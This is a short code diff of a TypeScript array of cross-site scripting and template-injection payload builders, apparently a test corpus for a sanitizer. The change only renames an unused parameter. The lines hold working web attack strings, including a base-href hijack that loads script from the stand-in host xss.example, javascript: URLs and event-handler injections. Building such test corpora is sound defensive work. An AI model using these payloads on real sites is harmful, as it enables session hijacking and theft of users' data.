@@ -79,7 +79,7 @@ const vectors: readonly ((run: string) => string)[] = [
   (run) => `{{constructor.constructor("${run}")()}}`,
   (run) => `\${${run}}`,
   (run) => `javascript:${run}//http://xss.example/`,
-  (run) => `<base href=http://xss.example/><script src=x.js>`,
+  (_run) => `<base href=http://xss.example/><script src=x.js>`,
   (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
   (run) => `<form action="javascript:${run}"><button autofocus>x</button></form>`,
   (run) => `<dialog open onclose=${run}><form method=dialog></form></dialog>`,
